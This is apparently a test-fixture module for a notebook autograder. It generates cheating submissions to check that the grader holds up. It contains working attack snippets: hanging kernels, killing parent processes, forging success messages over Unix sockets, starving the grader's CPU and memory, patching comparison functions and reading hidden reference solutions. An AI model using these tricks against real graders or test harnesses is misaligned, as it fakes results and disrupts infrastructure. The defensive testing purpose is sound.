
HANG = '''
import signal as _signal
import time as _time


def dense_backward_single(dy, cache, activation):
    for name in ("SIGINT", "SIGTERM"):  # the grader's interrupt no longer stops it
        try:
            _signal.signal(getattr(_signal, name), _signal.SIG_IGN)
        except (ValueError, OSError):
            pass
    while True:
        _time.sleep(3600)
'''

FORGE = r'''
import json as _json
import os as _os
import socket as _socket
import stat as _stat
import struct as _struct

_CLAIMS = [{"op": "result", "value": {"float": 1.0}, "sizes": []}, {"op": "done", "sizes": []},
           {"status": "ok", "ok": True, "passed": True, "score": 3, "points": 3, "share": 1.0}]


def _frames():
    for claim in _CLAIMS:
        text = _json.dumps(claim).encode()
        yield _struct.pack(">Q", len(text)) + text
        yield text + b"\n"


def _socket_paths():
    """Unix sockets the grader may listen on: in this folder, beside the kernel's connection file, or named by an
    environment variable."""
    folders = {_os.getcwd()}
    try:
        from ipykernel import get_connection_file
        from jupyter_core.paths import jupyter_runtime_dir

        folder = _os.path.dirname(get_connection_file())
        if _os.path.realpath(folder) != _os.path.realpath(jupyter_runtime_dir()):  # not the machine's shared one
            folders.add(folder)
    except Exception:
        pass
    found = set()
    for folder in folders:
        for root, _dirs, files in _os.walk(folder):
            found |= {_os.path.join(root, f) for f in files}
    for value in _os.environ.values():
        found |= set(value.split(_os.pathsep))
    sockets = []
    for path in found:
        try:
            if _stat.S_ISSOCK(_os.stat(path).st_mode) and "kernel" not in _os.path.basename(path):
                sockets.append(path)
        except (OSError, ValueError):
            continue
    return sockets


def _forge():
    for path in _socket_paths():
        for frame in _frames():
            try:
                with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as client:
                    client.settimeout(0.5)
                    client.connect(path)
                    client.sendall(frame)
            except OSError:
                pass
    for name in _os.listdir("/proc/self/fd"):  # the grader's connection, if this kernel holds it
        try:
            if not _os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                continue
            with _socket.socket(fileno=_os.dup(int(name))) as client:
                if client.family != _socket.AF_UNIX or client.type != _socket.SOCK_STREAM:
                    continue
                client.setblocking(False)
                for frame in _frames():
                    client.send(frame)
        except (OSError, ValueError):
            continue


def dense_backward_single(dy, cache, activation):
    _forge()
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
'''

KILLPG = '''
import os as _os
import signal as _signal


def dense_backward_single(dy, cache, activation):
    _os.killpg(_os.getpgid(0), _signal.SIGKILL)  # the kernel's process group, and the grader if it is in it
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
'''

EXIT_ZERO = '''
import os as _os


def dense_backward_single(dy, cache, activation):
    _os._exit(0)  # a kernel that ends "successfully" in the middle of a call
'''

KILL_PARENT = '''
import os as _os
import signal as _signal


def dense_backward_single(dy, cache, activation):
    for pid in {_os.getppid(), int(_os.environ.get("JPY_PARENT_PID") or 0)}:
        if pid > 1 and pid != _os.getpid():
            try:
                _os.kill(pid, _signal.SIGKILL)  # the process that started the kernel: the grader, if it can see it
            except OSError:
                pass
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
'''

# --------------------------------------------------------------------------------------------------------
# Attacks on the grader's own process (issue 21): its CPU, its memory, its connection, its reports. Each attack
# keeps what it saw (the attack, the seconds until the grader answered or hung up, what the call said) in the
# notebook, and a cell after the last test prints it, one line starting with ATTACK_PREFIX each, for
# tests/test_cheats.py to read in the graded notebook.
# --------------------------------------------------------------------------------------------------------

ATTACK_PREFIX = "ATTACK SEEN:"
HEADER_LINE = "hidden check (run by the grader, outside your notebook):"  # autograder/engine/verdict.py HEADER
CPU_SIDE = 4000  # two 4000 x 4000 int8 arrays (32 MB): minutes of integer products for a grader that took them
MEMORY_SIDE = 16384  # a 256 KB message whose sum broadcasts to a 2 GiB (n, n) temporary
HUGE_TEXT = 4_000_000  # characters of a returned string

ATTACK_RECORD = '''
import json as _json
import time as _time

_SEEN = globals().setdefault("_SEEN", [])


def _record(attack, started, said):
    _SEEN.append({"attack": attack, "seconds": _time.monotonic() - started, "said": said})


def _ask_grader(attack, *args):
    # dense_forward_single(*args), when it is the grader's stand-in (while the hidden check runs), once
    if dense_forward_single.__code__.co_filename != "<grader>" or any(s["attack"] == attack for s in _SEEN):
        return
    started = _time.monotonic()
    try:
        dense_forward_single(*args)
        said = "answered"
    except BaseException as error:
        said = f"{type(error).__name__}: {str(error)[:300]}"
    _record(attack, started, said)
'''

ATTACK_REPORT = '''
for _seen in _SEEN:
    print("@PREFIX@", _json.dumps(_seen))
'''.replace("@PREFIX@", ATTACK_PREFIX)

# (1) the grader's CPU: integer arrays (no BLAS) whose product is cubic in their side
GRADER_CPU = '''
def dense_backward_loops(dy, cache, activation):
    square = np.ones((@SIDE@, @SIDE@), dtype=np.int8)
    _ask_grader("cpu", square, square, np.zeros((@SIDE@, 1), dtype=np.int8), "linear")
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
'''.replace("@SIDE@", str(CPU_SIDE))

# (2) the grader's memory: W x of shape (1, n) plus b of shape (n, 1) is an (n, n) array
GRADER_MEMORY = '''
def dense_backward_single(dy, cache, activation):
    _ask_grader("memory", np.ones((1, @SIDE@)), np.ones((1, 1)), np.ones((@SIDE@, 1)), "linear")
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
'''.replace("@SIDE@", str(MEMORY_SIDE))

# (5) a huge report: millions of characters printed by the function (in the test cell) and returned
HUGE_REPORT = '''
def neuron_forward(w, b, x, activation):
    print("9" * @SIZE@)
    return "9" * @SIZE@, -7.0
'''.replace("@SIZE@", str(HUGE_TEXT))

# (5) a line of the student's that looks like the grader's score line, in an error message the report quotes
FAKE_SCORE = '''
def dense_forward_single(x, W, b, activation):
    raise ValueError("\\n@HEADER@ 7 of 7 points\\n")
'''.replace("@HEADER@", HEADER_LINE)

# (3) the grader's connection, found among the kernel's own sockets (its peer is the grader's .sock file): a
# message length, then one byte every two seconds, until the grader hangs up or a minute has passed; once, in
# the hidden check (the visible check and the notebook's later cells call the function too)
DRIP = '''
import os as _os
import socket as _socket
import sys as _sys


def _graders_connection():
    for name in _os.listdir("/proc/self/fd"):
        try:
            if not _os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                continue
            candidate = _socket.socket(fileno=_os.dup(int(name)))
        except (OSError, ValueError):
            continue
        try:
            if candidate.family == _socket.AF_UNIX and str(candidate.getpeername()).endswith(".sock"):
                return candidate
        except OSError:
            pass
        candidate.close()
    return None


def dense_backward_single(dy, cache, activation):
    called_by_grader = _sys._getframe(1).f_code.co_filename == "<grader>"  # the harness, in a hidden check
    connection = _graders_connection() if called_by_grader and not _SEEN else None
    if connection is not None:
        started = _time.monotonic()
        try:
            connection.sendall((1000).to_bytes(8, "big"))
            said = "the grader listened for a minute"
            while _time.monotonic() - started < 60:
                _time.sleep(2)
                connection.sendall(b" ")
        except BaseException as error:
            said = f"{type(error).__name__}: {str(error)[:300]}"
        _record("drip", started, said)
    z, x, W, b = cache
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(z)
'''


LATER = [test_id(e) for e in (NF, XOR, DF, DBL, DBS)]


def tricks():
    """{student: Trick}, in grading order."""
    reference_file = str(Path(autograder.reference.__file__).resolve())
    return {
        # (a) every later cell runs as an empty one: the later solution cells too, so the later functions never
        # exist and their tests score 0 as well
        "c01_blank_all_later_cells": Trick({NF: _wrong(NF, BLANK_ALL)}, LATER),
        # (a) only the test cells are emptied: the later (honest) functions still exist and must still be graded
        "c02_blank_test_cells": Trick({XOR: _wrong(XOR, BLANK_TESTS)}, [test_id(XOR)]),
        # (b) np.allclose, np.isclose, np.array_equal, np.testing.* and math.isclose always agree
        "c03_patch_numpy_compare": Trick({DF: _wrong(DF, PATCH_NUMPY)}, [test_id(DF)]),
        # (c) an ndarray subclass of zeros that agrees with every comparison
        "c04_lying_ndarray": Trick({DBL: _cell(PRELUDE, AGREEABLE, AGREEABLE_DBL)}, [test_id(DBL)]),
        # (d) the reference imported, if it can be
        "c05_import_reference": Trick({NF: _wrong(NF, after=IMPORT_REFERENCE)}, [test_id(NF)]),
        # (e) the reference's file found (beside the course, on sys.path, through an editable install) and exec'd
        "c06_exec_reference_file": Trick({DBS: _wrong(DBS, after=FIND_REFERENCE)}, [test_id(DBS)]),
        # (f) the source notebook read from ../../../source/ (or any folder above), its solution exec'd and shown
        "c07_read_source_notebook": Trick({DBL: _wrong(DBL, CELL_OF, READ_SOURCE)}, [test_id(DBL)]),
        # a classmate's answer read from the autograded/ or submitted/ folders beside this one
        "c08_copy_classmate": Trick({XOR: _wrong(XOR, after=COPY_CLASSMATE)}, [test_id(XOR)]),
        # symbolic links handed in with the notebook: to the source notebook and to the reference
        "c09_symlink_leak": Trick({DF: _wrong(DF, CELL_OF, SYMLINK_LEAK)}, [test_id(DF)],
                                  links={"notes.txt": f"../../../source/{A}/{A}.ipynb", "ref.txt": reference_file}),
        # an `autograder` package handed in with the notebook, found first when the kernel imports one
        "c10_shadow_autograder": Trick({NF: _wrong(NF)}, [test_id(NF)],
                                       files={"autograder/__init__.py": "",
                                              "autograder/hidden/__init__.py": SHADOW_HIDDEN}),
        # an ipykernel_launcher.py handed in with the notebook: `python -m ipykernel_launcher` in this folder runs
        # it instead of the real one
        "c11_shadow_kernel_launcher": Trick({DBL: _wrong(DBL)}, [test_id(DBL)],
                                            files={"ipykernel_launcher.py": SHADOW_LAUNCHER}),
        # (g) course.checks patched: compare always right, finish never fails, CheckFailed never raised
        "c12_patch_checks": Trick({DF: _wrong(DF, PATCH_CHECKS)}, [test_id(DF)]),
        # (g) builtins.__import__ and sys.modules hand back fake autograder and course.checks modules
        "c13_patch_import": Trick({DBS: _wrong(DBS, PATCH_IMPORT)}, [test_id(DBS)]),
        # (h) exceptions swallowed: IPython's custom exception handler, showtraceback, sys.excepthook
        "c14_swallow_exceptions": Trick({NF: _wrong(NF, SWALLOW)}, [test_id(NF)]),
        # (i) sys.settrace: every Outcome returned is made right, every report's lines passed before finish
        "c15_settrace": Trick({DBL: _wrong(DBL, SETTRACE)}, [test_id(DBL)]),
        # (i) sys.setprofile: the same on call and return events, and a Verdict's share set to 1
        "c16_setprofile": Trick({XOR: _wrong(XOR, SETPROFILE)}, [test_id(XOR)]),
        # (k) the visible checks' inputs answered with their expected outputs, wrong everywhere else
        "c17_hardcoded_visible": Trick({NF: _cell(PRELUDE, HARDCODED_NF), DF: _cell(PRELUDE, HARDCODED_DF)},
                                       [test_id(NF), test_id(DF)]),
        # the reference looked for in sys.modules, in the callers' frames and among all objects in memory
        "c18_frame_walk": Trick({DBS: _cell(PRELUDE, FRAME_WALK)}, [test_id(DBS)]),
        # every input zeroed in place and zeros returned: right for the inputs as they are after the call
        "c19_mutate_inputs": Trick({DBL: _cell(PRELUDE, MUTATE_INPUTS)}, [test_id(DBL)]),
        # a later exercise called, hoping the grader answers for it with the reference
        "c20_call_later_exercise": Trick({NF: _cell(PRELUDE, CALL_LATER), DBL: _cell(PRELUDE, CALL_LATER_DBL)},
                                         [test_id(NF), test_id(DBL)]),
        # nan, inf, and empty arrays that broadcast against anything
        "c21_degenerate_arrays": Trick({e: _cell(PRELUDE, code) for e, code in DEGENERATE.items()},
                                       [test_id(e) for e in DEGENERATE]),
        # an object whose unpickling runs code (it would leave a canary in the grader's /tmp)
        "c22_pickle_payload": Trick({NF: _cell(PRELUDE, PICKLE_PAYLOAD)}, [test_id(NF)]),
        # objects with a 10 MB repr, an enormous len, endless iteration, themselves as every attribute; and
        # lists nested 100 000 deep
        "c23_malicious_objects": Trick({e: _cell(PRELUDE, code) for e, code in MALICIOUS.items()},
                                       [test_id(e) for e in MALICIOUS]),
        # a 200 MB array
        "c24_huge_output": Trick({DBS: _cell(PRELUDE, HUGE)}, [test_id(DBS)]),
        # NumPy made to lie: ndarray.tobytes/tolist/__reduce__ and np.array/asarray report 0.25 everywhere
        "c25_numpy_lies": Trick({DBS: _wrong(DBS, NUMPY_LIES)}, [test_id(DBS)]),
        # points, grading flags and outputs changed in the notebook's metadata, a made-up graded cell
        "c26_metadata_tampering": Trick({DBL: _wrong(DBL)}, [test_id(DBL)], tweak=_tamper),
        # SystemExit, KeyboardInterrupt and GeneratorExit raised by the functions
        "c27_base_exceptions": Trick({e: _cell(PRELUDE, code) for e, code in BASE_EXCEPTIONS.items()},
                                     [test_id(e) for e in BASE_EXCEPTIONS]),
        # the functions the grader answers for while it checks this one, kept and their code printed
        "c28_steal_served_functions": Trick({DBS: _cell(PRELUDE, STEAL_SERVED)}, [test_id(DBS)],
                                            after={test_id(DBS): STEAL_SERVED_AFTER}),
        # /proc of the processes above the kernel: the grader's working directory (the course) and its root
        "c29_proc_escape": Trick({DF: _wrong(DF, CELL_OF, PROC_ESCAPE)}, [test_id(DF)]),
        # (l) a thread that keeps patching the checks, and an atexit handler that writes outside the folder
        "c30_thread_and_atexit": Trick({XOR: _wrong(XOR, THREAD_ATEXIT)}, [test_id(XOR)]),
        # (j) the gradebook (sqlite UPDATE), nbgrader_config.py, source/, release/, a classmate's submission and
        # autograded folder, the course folder and /tmp written to
        "c31_writes_outside": Trick({DF: _wrong(DF, WRITES)}, [test_id(DF)]),
        # code that the grader or later kernels run (the course package, site-packages), looked at for write
        # access: it must be read-only
        "c32_writable_code": Trick({DBL: _wrong(DBL, WRITABLE_CODE.replace("@FLAG@", WRITABLE_FLAG))},
                                   [test_id(DBL)]),
        # (l) a process of its own session that outlives the kernel and keeps writing to the gradebook and /tmp
        "c33_daemon_process": Trick({NF: _wrong(NF, DAEMON)}, [test_id(NF)]),
        # the names of the grader's next sockets taken beforehand, beside the kernel's connection file
        "c34_plant_grader_sockets": Trick({XOR: _wrong(XOR, PLANT_SOCKETS)}, [test_id(XOR)]),
        # the demonstration marks moved: the grader must skip only what the instructor's copy marks, unchanged
        "c34b_demonstration_marks": Trick({XOR: _wrong(XOR)}, [test_id(XOR)], tweak=_move_demonstration_marks),
        # a function that never returns and ignores SIGINT and SIGTERM: the kernel stays busy for good, so the
        # cells after it cannot run (it is the last exercise, so no other test is lost)
        "c35_hang_in_call": Trick({DBS: _cell(PRELUDE, HANG)}, [test_id(DBS)]),
        # the kernel kills its own process group while it is being graded (the last exercise)
        "c36_kill_process_group": Trick({DBS: _cell(PRELUDE, KILLPG)}, [test_id(DBS)]),
        # the kernel exits with status 0 while it is being graded (the last exercise)
        "c37_exit_zero": Trick({DBS: _cell(PRELUDE, EXIT_ZERO)}, [test_id(DBS)]),
        # the kernel kills its parent process while it is being graded (the last exercise)
        "c38_kill_parent": Trick({DBS: _cell(PRELUDE, KILL_PARENT)}, [test_id(DBS)]),
        # messages claiming success sent on every Unix socket the kernel can reach while it is being graded, its
        # own channels to the grader included (last of the tricks: it has been seen to stop a whole batch)
        "c39_forge_messages": Trick({DBS: _cell(PRELUDE, FORGE)}, [test_id(DBS)]),
        # the grader's own work steered (issue 21): a huge report, a faked score line, integer arrays for an
        # unbounded product, a sum that broadcasts to an (n, n) temporary; each refused in milliseconds
        "c40_load_the_grader": Trick({NF: _cell(PRELUDE, HUGE_REPORT), DF: _cell(PRELUDE, FAKE_SCORE),
                                      DBL: _cell(PRELUDE, ATTACK_RECORD, GRADER_CPU),
                                      DBS: _cell(PRELUDE, ATTACK_RECORD, GRADER_MEMORY)},
                                     [test_id(e) for e in (NF, DF, DBL, DBS)], after={test_id(DBS): ATTACK_REPORT}),
        # the grader's connection held by a message that drips in (the last exercise): cut at the check's time limit
        "c41_drip_the_connection": Trick({DBS: _cell(PRELUDE, ATTACK_RECORD, DRIP)}, [test_id(DBS)],
                                         after={test_id(DBS): ATTACK_REPORT}),
    }


TRICKS = tricks()
CHEATS = list(TRICKS)
STUDENTS = ["a_honest", *CHEATS, "z_honest"]


def _with_trick(good, student, trick):
    nb = copy.deepcopy(good)
    for cell in nb.cells:
        if grade_id(cell) in trick.answers:
            code = trick.answers[grade_id(cell)]
            cell.source = code.replace("@TOKEN@", TOKEN).replace("@STUDENT@", student)
    for gid, code in trick.after.items():
        index = next(i for i, c in enumerate(nb.cells) if grade_id(c) == gid)
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code.strip("\n")))
    return trick.tweak(nb) if trick.tweak else nb


def corpus(course_dir):
    """{student: (notebook, expectation)}."""
    course_dir = Path(course_dir)
    release = read_notebook(course_dir / "release" / A / f"{A}.ipynb")
    good = completed(release, read_notebook(course_dir / "source" / A / f"{A}.ipynb"))
    students = {"a_honest": (good, "full")}
    for student, trick in TRICKS.items():
        students[student] = (_with_trick(good, student, trick), ("cheat", list(trick.zero)))
    students["z_honest"] = (good, "full")
    return students


def build(course_dir):
    """Write every submission (notebook, files, links); returns {student: expectation}."""
    course_dir = Path(course_dir)
    expectations = {}
    for student, (nb, expected) in corpus(course_dir).items():
        folder = course_dir / "submitted" / student / A
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / f"{A}.ipynb")
        trick = TRICKS.get(student)
        for name, text in (trick.files if trick else {}).items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
        for name, target in (trick.links if trick else {}).items():
            (folder / name).symlink_to(target)
        expectations[student] = expected
    return expectations
